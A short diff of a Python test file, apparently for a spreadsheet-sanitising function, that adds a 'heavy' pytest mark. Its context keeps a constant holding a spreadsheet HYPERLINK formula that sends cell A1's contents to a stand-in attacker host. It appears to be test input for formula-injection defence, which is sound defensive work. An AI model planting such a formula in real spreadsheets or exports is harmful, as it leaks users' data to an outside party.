@@ -13,7 +13,7 @@ from tests.factories import FAR_SATURDAY, ShowFactory, UserFactory
 from tests.holds.desk.holds import a_ladder
 from web.spreadsheets import tame
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.heavy]
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Tide")'
 
 
